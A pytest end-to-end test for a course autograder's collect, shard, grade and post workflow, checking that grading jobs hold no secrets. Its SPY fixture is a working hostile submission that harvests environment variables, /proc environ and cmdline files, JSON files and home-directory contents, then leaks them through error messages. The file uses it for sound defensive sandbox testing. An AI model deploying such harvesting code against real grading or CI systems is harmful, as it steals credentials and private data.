"""The whole way, with real grading: students push, the class is collected, cut into shards, graded without a secret, posted, regraded.

Each step is the command that the workflow runs, in an environment of its own like a job's.
"""

from __future__ import annotations

import json
import os
import shutil
import subprocess
import sys
from datetime import timedelta
from pathlib import Path

import pytest
from forge import Fault, Forge

from autograder.course.course import load_course
from autograder.grading.paths import REFERENCES, REPOSITORY

COURSE = load_course(REPOSITORY / "course.toml")
ATTENTION = COURSE.find("attention")
PATH = "assignments/01_attention/attention.py"
IN_TIME, LATE = ((ATTENTION.due + timedelta(hours=hours)).isoformat() for hours in (-30, 5))
REFERENCE = (REFERENCES / "attention.py").read_text()
MISTAKEN = REFERENCE.replace("math.sqrt(query.size(-1))", "math.sqrt(value.size(-1))")
SECRETS = {"GITHUB_TOKEN": "canary-token-of-the-class", "AUTOGRADER_SECRET": "canary-secret-of-the-course-0123456789"}
# Tries to carry out everything that it can read, in the words of an error.
SPY = '''"""Looks around."""
import glob, os


def loot():
    found = [repr(dict(os.environ))]
    patterns = ["/proc/self/environ", "/proc/[0-9]*/environ", "/proc/[0-9]*/cmdline", "**/*.json", "../**/*.json", "/tmp/**/*"]
    for pattern in [*patterns, os.path.expanduser("~/**/*")]:
        for path in glob.iglob(pattern, recursive=True):
            try:
                found.append(open(path, "rb").read(5000).decode("latin-1"))
            except OSError:
                pass
    return "".join(found)


STOLEN = loot()


def padding_mask(token_ids, pad_id):
    raise ValueError(STOLEN)


def causal_mask(query_length, key_length=None):
    raise RuntimeError(STOLEN)


def combine_masks(padding=None, causal=None):
    return STOLEN


def scaled_dot_product_attention(query, key, value, mask=None):
    print(STOLEN)
    raise AssertionError(STOLEN)
'''


def autograder(*arguments, folder, secrets=(), expect=0):
    """Run the command as a job would: only the named secrets are in its environment."""
    environment = {"PATH": os.environ["PATH"], "HOME": str(folder), "PYTHONPATH": str(REPOSITORY)} | {name: SECRETS[name] for name in secrets}
    command = [sys.executable, "-m", "autograder", *map(str, arguments)]
    done = subprocess.run(command, cwd=folder, env=environment, capture_output=True, text=True, check=False)
    assert done.returncode == expect, done.stdout + done.stderr
    return done.stdout + done.stderr


class Cycle:
    """One run of the workflow's three jobs."""

    def __init__(self, folder: Path, forge: Forge) -> None:
        self.folder, self.forge = folder, forge
        shutil.copy(REPOSITORY / "course.toml", folder)
        (folder / "roster.csv").write_text("student,github\nada,ada-l\nbo,bo-b\nmallory,mal\nnoone,nobody\n")
        self.run_number = 0

    def __call__(self, *arguments, secrets=("GITHUB_TOKEN", "AUTOGRADER_SECRET"), folder=None, expect=0):
        return autograder(*arguments, folder=folder or self.folder, secrets=secrets, expect=expect)

    def collect(self, *more):
        api = ("--api", self.forge.url)
        return self("collect", "submissions", "--github", "--organisation", "course", "--prefix", "tf-", "--roster", "roster.csv", *api, *more)

    def grade(self):
        """Cut, and grade each shard in a folder that holds nothing else. Returns how many shards there were."""
        self.run_number += 1
        out = self.folder / f"shards-{self.run_number}"
        self(
            "shard",
            "submissions",
            out,
            "--roster",
            "roster.csv",
            "--assignment",
            "attention",
            "--size",
            "2",
            "--sandbox",
            "best",
            "--matrix",
            "matrix",
        )
        names = json.loads((self.folder / "matrix").read_text().splitlines()[-1].removeprefix("shards="))
        for name in names:
            job = self.folder / f"job-{self.run_number}-{name}"
            shutil.move(out / name, job / "shard")
            shutil.copy(REPOSITORY / "course.toml", job)
            options = ("--seeds", "shard/seeds.json", "--gradebook", "none", "--sandbox", "best", "--jobs", "1", "--assignment", "attention")
            self.output = self("grade", "shard/submissions", *options, folder=job, secrets=())
            shutil.copytree(job / "results" / "01_attention", self.folder / f"incoming-{self.run_number}" / name)
        return len(names)

    def post(self, *more, expect=0):
        incoming = self.folder / f"incoming-{self.run_number}"
        given = ("--incoming", incoming) if incoming.is_dir() else ()
        return self("post", "submissions", *given, "--roster", "roster.csv", "--api", self.forge.url, *more, expect=expect)


@pytest.fixture(scope="module")
def cycle(tmp_path_factory):
    folder = tmp_path_factory.mktemp("cycle")
    (folder / "forge").mkdir()
    with Forge(folder / "forge", tokens=(SECRETS["GITHUB_TOKEN"],)) as forge:
        for login, source in (("ada-l", REFERENCE), ("bo-b", MISTAKEN), ("mal", SPY)):
            forge.repository(f"course/tf-{login}").push({PATH: source, "conftest.py": "x"}, IN_TIME)
        forge.repository("course/tf-ada-l-old-fork")
        (folder / "course").mkdir()
        run = Cycle(folder / "course", forge)
        run.collected = run.collect()
        run.shards = run.grade()
        run.dry = run.post("--dry-run")
        run.before_posting = len(forge.asked("POST|PATCH"))
        run.posted = run.post()
        yield run
        assert forge.violations == []


def runs(cycle, login):
    return cycle.forge.repositories[f"course/tf-{login}"].check_runs


def test_each_student_gets_their_score_on_their_commit(cycle):
    (ada,), (bo,), (mallory,) = (runs(cycle, login) for login in ("ada-l", "bo-b", "mal"))
    assert (ada["output"]["title"], ada["conclusion"]) == ("20 of 20 points", "success")
    assert bo["conclusion"] == "neutral"
    assert mallory["output"]["title"] == "0 of 20 points"
    assert ada["head_sha"] == cycle.forge.repositories["course/tf-ada-l"].head()


def test_a_mistake_is_named(cycle):
    (bo,) = runs(cycle, "bo-b")
    assert "This looks like:" in bo["output"]["text"]
    assert "square root of the values' width" in bo["output"]["text"]


def test_a_class_of_three_makes_two_shards(cycle):
    assert cycle.shards == 2


def test_a_dry_run_sends_nothing(cycle):
    assert "3 would be posted; nothing was sent." in cycle.dry
    assert cycle.before_posting == 0


def test_who_handed_in_nothing_is_no_problem(cycle):
    assert "not handed in" in cycle.collected


def test_the_job_that_runs_students_code_has_nothing_to_take(cycle):
    """Nothing that the spy could read is in any report, post or output; and its job held no secret at all."""
    everything = [json.dumps(run) for login in ("ada-l", "bo-b", "mal") for run in runs(cycle, login)]
    everything += [path.read_text() for path in cycle.folder.rglob("results/**/*") if path.is_file()]
    everything += [path.read_text() for path in cycle.folder.rglob("incoming-*/**/*.json")] + [cycle.output, cycle.posted]
    for secret in SECRETS.values():
        assert not any(secret in text for text in everything)
    for job in cycle.folder.glob("job-*"):
        held = [path for path in job.rglob("*") if path.is_file()]
        assert not any(secret.encode() in path.read_bytes() for path in held for secret in SECRETS.values())
        assert not (job / ".autograder").exists()
        assert {path.parent.parent.name for path in held if path.name == "attention.py"} <= {"ada", "bo", "mallory"}


def test_a_second_run_grades_and_posts_nothing(cycle):
    cycle.collect()
    assert cycle.grade() == 0
    before = len(cycle.forge.asked("POST|PATCH"))
    assert "0 posted" in cycle.post()
    assert len(cycle.forge.asked("POST|PATCH")) == before


def test_a_late_student_is_collected_graded_and_posted_alone(cycle):
    bo = cycle.forge.repositories["course/tf-bo-b"]
    first = bo.head()
    commit = bo.push({PATH: REFERENCE}, LATE)
    cycle.collect("--student", "bo", "--until", "newest")
    assert cycle.grade() == 1
    cycle.forge.faults.append(Fault("POST .*check-runs", 0, after_work=True))
    assert "1 posted, 2 unchanged." in cycle.post()
    by_commit = {run["head_sha"]: run["output"]["title"] for run in bo.check_runs}
    assert by_commit[commit] == "18 of 20 points"
    assert "points off" not in by_commit[first]
    assert len(bo.check_runs) == 2


def test_a_forged_result_of_a_job_is_refused_and_the_rest_is_kept(cycle):
    incoming = cycle.folder / "incoming-1"
    report = next(json.loads(path.read_text()) for path in incoming.rglob("*.json") if "mallory" in str(path))
    for test in report["tests"]:
        test |= {"outcome": "passed", "points": 1000.0, "max_points": 1000.0}
    forged = report | {"student": "ada", "score": 1e6, "fingerprint": "f" * 64}
    (cycle.folder / "forged").mkdir()
    (cycle.folder / "forged" / "x.json").write_text(json.dumps(forged))
    said = cycle("post", "submissions", "--incoming", cycle.folder / "forged", "--api", cycle.forge.url, "--dry-run", expect=1)
    assert "is refused: it is about another submission than the one that was collected" in said


def test_the_results_come_back_from_a_branch_on_an_empty_machine(cycle, tmp_path):
    subprocess.run(["git", "init", "--quiet", "--bare", str(tmp_path / "course.git")], check=True)
    cycle("ledger", "push", "--remote", tmp_path / "course.git", secrets=())
    shutil.move(cycle.folder / "results", tmp_path / "away")
    assert "files fetched into" in cycle("ledger", "pull", "--remote", tmp_path / "course.git", secrets=())
    assert cycle.grade() == 0
    assert "0 posted, 3 unchanged." in cycle.post()
